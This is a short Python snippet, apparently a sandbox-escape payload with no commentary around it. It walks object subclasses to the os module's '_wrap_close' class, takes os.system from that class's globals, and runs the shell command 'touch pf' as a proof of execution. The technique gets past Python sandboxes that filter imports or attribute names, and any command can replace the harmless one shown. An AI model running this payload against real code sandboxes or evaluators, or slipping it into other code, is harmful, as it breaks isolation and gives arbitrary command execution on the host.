class A:
    def f(self): return object.__getattribute__(self, "__class__").__base__.__subclasses__()
[c for c in A().f() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("touch pf")
